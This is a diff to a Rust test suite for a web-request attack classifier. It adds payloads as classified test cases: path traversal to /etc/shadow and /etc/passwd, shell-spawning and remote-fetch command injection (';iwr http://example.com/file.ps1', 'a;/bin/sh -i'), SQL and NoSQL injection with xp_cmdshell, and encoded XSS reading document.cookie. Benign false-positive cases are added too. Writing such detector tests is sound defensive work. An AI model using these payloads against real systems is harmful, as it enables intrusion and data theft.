@@ -55,7 +55,10 @@ fn attack_values_are_classified() {
         ("c:\\windows\\win.ini", Trav),
         ("file:///etc/hosts", Trav),
         ("....//....//etc/shadow", Trav),
-        ("php://filter/convert.base64-encode/resource=index.php", Trav),
+        (
+            "php://filter/convert.base64-encode/resource=index.php",
+            Trav,
+        ),
         ("foo/..", Trav),
         // Command injection
         ("; cat /etc/passwd", Trav), // the file wins; both are blocks
@@ -73,6 +76,26 @@ fn attack_values_are_classified() {
         ("cmd=127.0.0.1 && ls /etc", Cmd),
         ("a;/bin/sh -i", Cmd),
         ("x|powershell -enc AAA", Cmd),
+        ("/usr/bin/[u]name -a", Cmd),
+        ("cat /et'c/pa'ss'wd", Trav),
+        ("$(cat$())", Cmd),
+        ("<(cat file)", Cmd),
+        ("FOR /F \"tokens=*\" %G IN ('dir /b') DO (call :sub)", Cmd),
+        ("IF EXIST MyFile.txt (ECHO x)", Cmd),
+        (";iwr http://example.com/file.ps1", Cmd),
+        // NoSQL operators (reported as SQL injection: same database-query class)
+        ("u_id[$ne]", Sqli),
+        ("true, $where: '99 == 88'", Sqli),
+        ("db.injection.insert({success:1});", Sqli),
+        ("' ;SELECT P", Sqli),
+        (" exec xp_cmdshell", Sqli),
+        // encodings handled inside the classifier
+        ("&lt;script&gt;alert(1)&lt;/script&gt;", Xss),
+        ("<a href=javas&#99;ript:prompt&#x28;1)>x", Xss),
+        ("&gt;+src+onerror=confirm&amp;lpar;1&amp;rpar;&lt;", Xss),
+        ("alert?.(document?.cookie)", Xss),
+        ("document[\"cookie\"]", Xss),
+        ("PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+", Xss), // base64 of <svg/onload=alert(1)>
     ];
     let mut failures = Vec::new();
     for (input, want) in cases {
@@ -132,6 +155,19 @@ fn benign_values_pass() {
         "price: $(5.00)",
         "SELECT * is not a sentence",
         "or else",
+        "JavaScript: Basics of JavaScript Language",
+        "while (foo) is bar.",
+        "One quarter (24%) of people have had an affair",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
+        "internationalization",
+        "QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
+        "sign=VGhhbmtzLCBmb3IgYWxs/onafe=",
+        "costs $5, or $10 with tax",
+        "{\"$schema\": \"x\", \"$ref\": \"#/a\"}",
+        "for more info see (page 3)",
+        "if you're here, welcome",
+        "AT&T; Q&A",
     ];
     let fps: Vec<String> = cases
         .iter()
@@ -148,7 +184,10 @@ fn query_decoding_and_locations() {
     // `+` is a space
     assert_eq!(q("q=1+union+select+1,2").map(|f| f.class), Some(Sqli));
     // double encoding
-    assert_eq!(q("f=%252e%252e%252fetc%252fpasswd").map(|f| f.class), Some(Trav));
+    assert_eq!(
+        q("f=%252e%252e%252fetc%252fpasswd").map(|f| f.class),
+        Some(Trav)
+    );
     assert_eq!(q("x=%253Cscript%253E").map(|f| f.class), Some(Xss));
     // overlong UTF-8
     let f = q("f=%c0%ae%c0%ae/secret");
@@ -193,19 +232,37 @@ fn evidence_is_truncated_on_char_boundary() {
 #[test]
 fn form_body() {
     let f = inspect_form_body(b"user=admin&pass=x%27+or+%271%27%3D%271", &B);
-    assert_eq!(f.map(|o| o.map(|f| (f.class, f.location))), Ok(Some((Sqli, "pass".to_owned()))));
-    assert_eq!(inspect_form_body(b"user=bob&pass=p%40ss%22%23word", &B), Ok(None));
+    assert_eq!(
+        f.map(|o| o.map(|f| (f.class, f.location))),
+        Ok(Some((Sqli, "pass".to_owned())))
+    );
+    assert_eq!(
+        inspect_form_body(b"user=bob&pass=p%40ss%22%23word", &B),
+        Ok(None)
+    );
     // invalid UTF-8 does not panic, still inspected
     let mut body = b"a=\xff\xfe&b=".to_vec();
     body.extend_from_slice(b"%3Cscript%3E");
-    assert_eq!(inspect_form_body(&body, &B).map(|o| o.map(|f| f.class)), Ok(Some(Xss)));
+    assert_eq!(
+        inspect_form_body(&body, &B).map(|o| o.map(|f| f.class)),
+        Ok(Some(Xss))
+    );
 }
 
 #[test]
 fn path() {
-    assert_eq!(inspect_path("/search/<script>alert(1)</script>").map(|f| f.class), Some(Xss));
-    assert_eq!(inspect_path("/item/1 union select 1,2").map(|f| f.class), Some(Sqli));
-    assert_eq!(inspect_path("/x/%c0%ae%c0%ae/y").map(|f| f.rule), Some("overlong_utf8"));
+    assert_eq!(
+        inspect_path("/search/<script>alert(1)</script>").map(|f| f.class),
+        Some(Xss)
+    );
+    assert_eq!(
+        inspect_path("/item/1 union select 1,2").map(|f| f.class),
+        Some(Sqli)
+    );
+    assert_eq!(
+        inspect_path("/x/%c0%ae%c0%ae/y").map(|f| f.rule),
+        Some("overlong_utf8")
+    );
     for benign in [
         "/",
         "/api/v1/users/123",
@@ -223,21 +280,39 @@ fn path() {
 fn json_body() {
     let j = |s: &str| inspect_json_body(s.as_bytes(), &B);
     let f = j(r#"{"user":{"name":"x' or '1'='1"}}"#);
-    assert_eq!(f.map(|o| o.map(|f| (f.class, f.location))), Ok(Some((Sqli, "name".to_owned()))));
-    assert_eq!(j(r#"["a", ["<svg/onload=alert(1)>"]]"#).map(|o| o.map(|f| f.class)), Ok(Some(Xss)));
+    assert_eq!(
+        f.map(|o| o.map(|f| (f.class, f.location))),
+        Ok(Some((Sqli, "name".to_owned())))
+    );
+    assert_eq!(
+        j(r#"["a", ["<svg/onload=alert(1)>"]]"#).map(|o| o.map(|f| f.class)),
+        Ok(Some(Xss))
+    );
     // attack in a key
-    assert_eq!(j(r#"{"../../etc/passwd": 1}"#).map(|o| o.map(|f| f.class)), Ok(Some(Trav)));
+    assert_eq!(
+        j(r#"{"../../etc/passwd": 1}"#).map(|o| o.map(|f| f.class)),
+        Ok(Some(Trav))
+    );
     // JSON nested in a string is re-parsed
     assert_eq!(
         j(r#"{"data":"{\"cmd\":\"; cat /home/x/.bashrc\"}"}"#).map(|o| o.map(|f| f.class)),
         Ok(Some(Cmd))
     );
     // \u escapes are decoded by the parser
-    assert_eq!(j(r#"{"a":"\u003cscript\u003e"}"#).map(|o| o.map(|f| f.class)), Ok(Some(Xss)));
+    assert_eq!(
+        j(r#"{"a":"\u003cscript\u003e"}"#).map(|o| o.map(|f| f.class)),
+        Ok(Some(Xss))
+    );
     // percent-encoded values inside JSON
-    assert_eq!(j(r#"{"a":"%3Cscript%3E"}"#).map(|o| o.map(|f| f.class)), Ok(Some(Xss)));
+    assert_eq!(
+        j(r#"{"a":"%3Cscript%3E"}"#).map(|o| o.map(|f| f.class)),
+        Ok(Some(Xss))
+    );
     // invalid JSON is inspected as text
-    assert_eq!(j(r#"{"a": "<script>alert(1)"#).map(|o| o.map(|f| f.class)), Ok(Some(Xss)));
+    assert_eq!(
+        j(r#"{"a": "<script>alert(1)"#).map(|o| o.map(|f| f.class)),
+        Ok(Some(Xss))
+    );
     assert_eq!(j("{not json at all"), Ok(None));
     // benign
     for benign in [
@@ -301,9 +376,10 @@ fn xorshift(state: &mut u64) -> u64 {
 
 #[test]
 fn random_bytes_never_panic() {
-    let alphabet = b"%'\"<>;|&$()./\\-#=:`{}[]*+ \n\r\tabcdefxyzSELECTunion0123456789\xc0\xae\xe0\x80\xff";
+    let alphabet =
+        b"%'\"<>;|&$()./\\-#=:`{}[]*+ \n\r\tabcdefxyzSELECTunion0123456789\xc0\xae\xe0\x80\xff";
     let mut s = 0x9E37_79B9_7F4A_7C15u64;
-    for round in 0..3000 {
+    for round in 0..1500 {
         let len = (xorshift(&mut s) % 200) as usize;
         let bytes: Vec<u8> = (0..len)
             .map(|_| {
